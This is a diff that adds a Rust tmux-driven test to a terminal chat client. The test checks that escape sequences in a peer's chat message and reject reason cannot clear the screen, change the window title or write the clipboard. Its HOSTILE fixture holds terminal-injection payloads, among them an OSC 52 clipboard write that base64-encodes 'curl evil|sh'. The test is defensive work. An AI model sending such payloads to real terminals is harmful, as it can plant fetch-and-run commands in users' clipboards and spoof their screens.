@@ -426,3 +426,101 @@ fn pasted_text_shows_up_at_once() {
         last_line(s).trim_end() == "> pasted words"
     });
 }
+
+/// What a hostile peer sends in its text fields: a screen clear and cursor
+/// home, a window title (OSC 2), a clipboard write (OSC 52, "curl evil|sh"),
+/// a one-byte C1 CSI, a right-to-left override and a line separator.
+const HOSTILE: &str = "\x1b[2J\x1b[Hx\x1b]2;pwned-title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\u{9b}31m\u{202E}txet\u{2028}end";
+
+/// Network text cannot drive the terminal: a partner's `reject` reason and
+/// chat message, full of escape sequences, leave the screen, the window
+/// title and the clipboard as they were. (Every event and field is checked
+/// on the renderer by `peer::sanitize`'s table test; this is the real
+/// terminal end to end.)
+#[test]
+fn hostile_text_from_a_partner_cannot_drive_the_terminal() {
+    use std::io::{BufRead, BufReader, Write};
+    if !tmux_available() {
+        return;
+    }
+    let reg = Registry::start(LONG_SESSIONS);
+    let t = Tmux::start(&peer_command(&reg), 160, 40);
+    // Clipboard writes from the pane would land in a tmux paste buffer.
+    t.run(&["set-option", "-s", "set-clipboard", "on"]);
+    t.wait_screen("the prompt", WAIT, |s| last_line(s).trim_end() == ">");
+    register_alice(&t);
+    t.type_command("/login alice");
+    t.wait_screen("the login password prompt", WAIT, |s| {
+        last_line(s).starts_with("password for alice:")
+    });
+    t.type_line(SECRET);
+    t.wait_screen("logged in", WAIT, |s| s.contains("logged in as alice"));
+    let title = t.run(&["display-message", "-p", "-t", "t", "#{pane_title}"]);
+
+    // mallory: online at the registry, her "peer" is this listener.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let _mallory = reg.ghost_login("mallory", port, port);
+    let (to_test, answered) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut replies = [
+            vec![serde_json::json!({"type": "reject", "reason": HOSTILE})],
+            vec![
+                serde_json::json!({"type": "accept"}),
+                serde_json::json!({"type": "msg", "id": 1, "text": HOSTILE}),
+            ],
+        ]
+        .into_iter();
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { return };
+            let mut hello = String::new();
+            let _ = BufReader::new(conn.try_clone().expect("clone")).read_line(&mut hello);
+            for reply in replies.next().unwrap_or_default() {
+                let _ = writeln!(conn, "{reply}");
+            }
+            let _ = to_test.send(hello);
+            // Kept open: the chat stays up while the test looks.
+            std::mem::forget(conn);
+        }
+    });
+
+    t.type_command("/chat mallory");
+    let hello = answered.recv_timeout(WAIT).expect("alice dials mallory");
+    assert!(hello.contains("\"hello\""), "{hello}");
+    t.wait_screen("the hostile reject", WAIT, |s| {
+        s.contains("mallory declined the chat")
+    });
+    wait_fresh_prompt(&t, "/chat mallory");
+    t.type_command("/chat mallory");
+    answered
+        .recv_timeout(WAIT)
+        .expect("alice dials mallory again");
+    let s = t.wait_screen("the hostile message", WAIT, |s| {
+        s.lines()
+            .any(|l| l.contains("mallory (private)") && l.contains("pwned-title"))
+    });
+
+    // Nothing was cleared: the login line is still on the screen.
+    assert!(
+        s.contains("logged in as alice"),
+        "the screen was cleared:\n{s}"
+    );
+    // The text shows with the controls replaced, on one line each.
+    let shown: Vec<&str> = s.lines().filter(|l| l.contains("pwned-title")).collect();
+    assert_eq!(shown.len(), 2, "{s}");
+    for line in shown {
+        assert!(line.contains("\u{FFFD}[2J"), "{line:?}");
+        let end = line.trim_end();
+        assert!(
+            end.ends_with("\u{FFFD}end)") || end.ends_with("\u{FFFD}end"),
+            "{line:?}"
+        );
+    }
+    let after = t.run(&["display-message", "-p", "-t", "t", "#{pane_title}"]);
+    assert_eq!(after, title, "the window title changed");
+    let buffers = t.run(&["list-buffers"]);
+    assert!(
+        buffers.trim().is_empty(),
+        "the clipboard was written: {buffers}"
+    );
+}
